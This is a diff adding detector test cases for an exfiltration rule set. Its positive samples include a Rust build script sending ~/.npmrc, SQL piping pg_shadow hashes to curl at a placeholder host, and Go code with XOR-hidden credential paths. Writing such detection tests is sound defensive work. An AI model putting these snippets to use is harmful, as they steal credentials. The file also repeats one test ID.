@@ -655,6 +655,90 @@ describeRuleCases('exfiltration', [
     negative:
       '# Support bundle\n\nCollect into `/tmp/bundle/`:\n\n- `uname -a`\n- `node --version`\n- `npm config get registry`\n- `ls ~/.kube`\n\nThen run `sh scripts/send.sh /tmp/bundle`.\n',
   },
+  {
+    id: 'SG-EXFIL-031',
+    // A -sys crate's build script: config files under the home folder, sent with ureq.
+    file: 'crates/fastkv-sys/build.rs',
+    positive: [
+      'fn main() {',
+      '    let home = dirs::home_dir().unwrap();',
+      '    let npm = std::fs::read_to_string(home.join(".npmrc")).unwrap_or_default();',
+      '    let _ = ureq::post(&endpoint()).send_string(&npm);',
+      '    println!("cargo:rustc-link-lib=fastkv");',
+      '}',
+    ].join('\n'),
+    // A build script that downloads a prebuilt library into OUT_DIR and reads its own header.
+    negative: [
+      'fn main() {',
+      '    let out = std::path::PathBuf::from(std::env::var("OUT_DIR").unwrap());',
+      '    let body = ureq::get("https://downloads.fastkv.example/libfastkv-1.2.tar.gz").call().unwrap();',
+      '    let header = std::fs::read_to_string("include/fastkv.h").unwrap();',
+      '    std::fs::write(out.join("fastkv.h"), header).unwrap();',
+      '}',
+    ].join('\n'),
+  },
+  {
+    id: 'SG-EXFIL-032',
+    // MySQL-free PostgreSQL: a command concatenated at run time and run by COPY ... FROM PROGRAM.
+    file: 'db/maintenance.sql',
+    positive: [
+      'DO $m$',
+      "DECLARE c text := current_setting('app.sync_cmd');",
+      'BEGIN',
+      "  EXECUTE 'COPY sync_log FROM PROGRAM ' || quote_literal(c || ' --since ' || now()::date);",
+      'END $m$;',
+    ].join('\n'),
+    // A fixed compression command chosen by the operator.
+    negative: "COPY audit_log TO PROGRAM 'gzip > /var/backups/audit_log.csv.gz' WITH (FORMAT csv);\n",
+  },
+  {
+    id: 'SG-EXFIL-002',
+    // Password hashes of every login role handed to a program by COPY ... TO PROGRAM.
+    file: 'sql/roles_report.sql',
+    positive: [
+      '\\set ON_ERROR_STOP on',
+      'COPY (SELECT usename, passwd FROM pg_shadow WHERE passwd IS NOT NULL)',
+      "  TO PROGRAM 'curl -s -X POST --data-binary @- https://roles.example.net/r';",
+    ].join('\n'),
+    // A SCRAM migration audit: hash kinds counted, the report written to standard output.
+    negative: [
+      "SELECT rolname, rolpassword LIKE 'SCRAM-SHA-256$%' AS scram FROM pg_authid WHERE rolcanlogin;",
+      'COPY (SELECT rolname FROM pg_roles) TO STDOUT WITH (FORMAT csv);',
+    ].join('\n'),
+  },
+  {
+    id: 'SG-EXFIL-002',
+    // A Go helper: credential paths as XOR-ed byte tables (key in the code), sent as a raw HTTP request.
+    file: 'tools/probe/main.go',
+    positive: [
+      'var key = "zq7"',
+      'var paths = [][]byte{',
+      '\t{0x54, 0x02, 0x44, 0x12, 0x5e, 0x5e, 0x1e, 0x2e, 0x45, 0x09, 0x10},',
+      '}',
+      'func dec(b []byte) string {',
+      '\tout := make([]byte, len(b))',
+      '\tfor i, c := range b { out[i] = c ^ key[i % len(key)] }',
+      '\treturn string(out)',
+      '}',
+      'func send(conn net.Conn, body string) {',
+      '\tfmt.Fprintf(conn, "POST /collect HTTP/1.1\\r\\nContent-Length: %d\\r\\n\\r\\n%s", len(body), body)',
+      '}',
+    ].join('\n'),
+    negative: [
+      'var key = "zq7"',
+      'var table = [][]byte{',
+      '\t{0x01, 0x02, 0x03, 0x04, 0x05, 0x06, 0x07, 0x08, 0x09, 0x0a, 0x0b},',
+      '}',
+      'func dec(b []byte) string {',
+      '\tout := make([]byte, len(b))',
+      '\tfor i, c := range b { out[i] = c ^ key[i % len(key)] }',
+      '\treturn string(out)',
+      '}',
+      'func send(conn net.Conn, body string) {',
+      '\tfmt.Fprintf(conn, "POST /collect HTTP/1.1\\r\\nContent-Length: %d\\r\\n\\r\\n%s", len(body), body)',
+      '}',
+    ].join('\n'),
+  },
 ]);
 
 describe('chains inside an HTML comment', () => {
